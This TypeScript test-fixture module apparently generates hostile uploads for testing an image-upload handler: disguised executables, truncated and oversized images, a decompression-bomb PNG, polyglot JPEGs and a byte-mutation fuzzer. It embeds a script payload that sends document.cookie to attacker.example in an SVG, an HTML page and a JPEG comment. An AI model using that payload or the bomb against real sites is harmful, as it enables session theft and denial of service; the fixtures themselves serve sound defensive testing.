import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

/** A file that somebody may upload in place of a photograph. */
export interface HostileFile {
  name: string;
  bytes: Buffer;
  /** It is a photograph all the same, and is kept as one of ours. */
  isPhoto?: boolean;
}

const script = '<script>fetch("//attacker.example/" + document.cookie)</script>';

/** Files that are no photographs, too large ones, broken ones, and photographs with more in them than a picture. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const photo = sharp({
    create: {
      width: 640,
      height: 480,
      channels: 3,
      background: '#a05030',
      noise: { type: 'gaussian', mean: 120, sigma: 20 },
    },
  });
  const png = await photo.clone().png().toBuffer();
  const plain = sharp(png);
  const jpeg = await plain.clone().jpeg().toBuffer();
  const webp = await plain.clone().webp().toBuffer();
  const two = await plain.clone().resize(64, 96).raw().toBuffer({ resolveWithObject: true });
  const frames = await sharp(two.data, { raw: { ...two.info, pageHeight: 48 } })
    .webp({ delay: [100, 100] })
    .toBuffer();
  const svg = Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`,
  );
  return [
    { name: 'a photograph', bytes: jpeg, isPhoto: true },
    { name: 'a WebP photograph', bytes: webp, isPhoto: true },
    { name: 'an executable', bytes: Buffer.concat([Buffer.from('MZ\x90\0'), png]) },
    { name: 'an ELF file', bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), jpeg]) },
    { name: 'an SVG with a script', bytes: svg },
    { name: 'a compressed SVG', bytes: gzipSync(svg) },
    { name: 'a page', bytes: Buffer.from(`<!doctype html>${script}`) },
    { name: 'a GIF', bytes: await plain.clone().gif().toBuffer() },
    { name: 'a PNG', bytes: png },
    { name: 'a TIFF', bytes: await plain.clone().tiff().toBuffer() },
    { name: 'an AVIF', bytes: await plain.clone().resize(64).avif().toBuffer() },
    { name: 'an animated WebP', bytes: frames },
    { name: 'a PNG of 20,000 × 20,000 pixels', bytes: hugePng(20_000) },
    { name: 'a JPEG that says 65,500 × 65,500 pixels', bytes: withJpegSize(jpeg, 65_500) },
    { name: 'half a JPEG', bytes: jpeg.subarray(0, jpeg.length / 2) },
    { name: 'the head of a JPEG', bytes: jpeg.subarray(0, 300) },
    { name: 'half a WebP', bytes: webp.subarray(0, webp.length / 2) },
    { name: 'a JPEG that is a page too', bytes: withComment(jpeg, script), isPhoto: true },
    {
      name: 'a JPEG that is a ZIP too',
      bytes: Buffer.concat([jpeg, Buffer.from('PK\x05\x06'), Buffer.alloc(18)]),
      isPhoto: true,
    },
    {
      name: 'a JPEG with a place and a time',
      bytes: await plain
        .clone()
        .withExif({ IFD3: { GPSLatitude: '44/1 58/1 30/1', GPSLatitudeRef: 'N' } })
        .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/">a secret place</x:xmpmeta>')
        .withIccProfile('p3')
        .jpeg()
        .toBuffer(),
      isPhoto: true,
    },
    {
      name: 'a CMYK JPEG',
      bytes: await plain.clone().resize(320).toColourspace('cmyk').jpeg().toBuffer(),
      isPhoto: true,
    },
    {
      name: 'a JPEG that is read in passes',
      bytes: await plain.clone().jpeg({ progressive: true }).toBuffer(),
      isPhoto: true,
    },
    { name: 'the head of a HEIC file', bytes: heicHead() },
    { name: 'zeros', bytes: Buffer.alloc(1_000) },
    { name: 'one byte', bytes: Buffer.from([0xff]) },
  ];
}

/** Changes bytes of photographs by a generator of numbers between 0 and 1: flipped, cut out, doubled or cut off. */
export function mutated(original: Buffer, random: () => number): Buffer {
  let bytes = Buffer.from(original);
  const at = () => Math.floor(random() * bytes.length);
  const times = 1 + Math.floor(random() * 8);
  for (let time = 0; time < times; time += 1) {
    const [from, to] = [at(), at()].sort((a, b) => a - b) as [number, number];
    const kind = random();
    // In the head there are sizes and tables: what breaks a decoder is there more often than anywhere.
    const place = random() < 0.5 ? Math.floor(random() * Math.min(700, bytes.length)) : from;
    if (kind < 0.6) bytes.writeUInt8(Math.floor(random() * 256), place);
    else if (kind < 0.75) bytes = Buffer.concat([bytes.subarray(0, from), bytes.subarray(to)]);
    else if (kind < 0.9) bytes = Buffer.concat([bytes.subarray(0, to), bytes.subarray(from)]);
    else bytes = bytes.subarray(0, Math.max(1, to));
    if (bytes.length === 0) bytes = Buffer.from([0]);
  }
  return bytes.subarray(0, 400_000);
}

/** A generator of numbers between 0 and 1 that is the same for the same seed (mulberry32). */
export function seededRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** A PNG of one color whose few bytes unpack to 50 MB of pixels of one bit. */
function hugePng(side: number): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  head.writeUInt8(1, 8);
  const rows = deflateSync(Buffer.alloc(side * (1 + Math.ceil(side / 8))), { level: 9 });
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', head),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const typed = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, sum]);
}

/** Writes another size into the frame header of a JPEG. */
function withJpegSize(jpeg: Buffer, side: number): Buffer {
  const changed = Buffer.from(jpeg);
  const frame = changed.indexOf(Buffer.from([0xff, 0xc0]));
  changed.writeUInt16BE(side, frame + 5);
  changed.writeUInt16BE(side, frame + 7);
  return changed;
}

function withComment(jpeg: Buffer, text: string): Buffer {
  const comment = Buffer.from(`*/${text}/*`);
  const segment = Buffer.alloc(4);
  segment.writeUInt16BE(0xfffe, 0);
  segment.writeUInt16BE(comment.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, comment, jpeg.subarray(2), comment]);
}

function heicHead(): Buffer {
  const box = Buffer.alloc(24);
  box.writeUInt32BE(24, 0);
  box.write('ftypheic', 4, 'latin1');
  box.write('mif1heic', 16, 'latin1');
  return Buffer.concat([box, Buffer.alloc(500, 1)]);
}
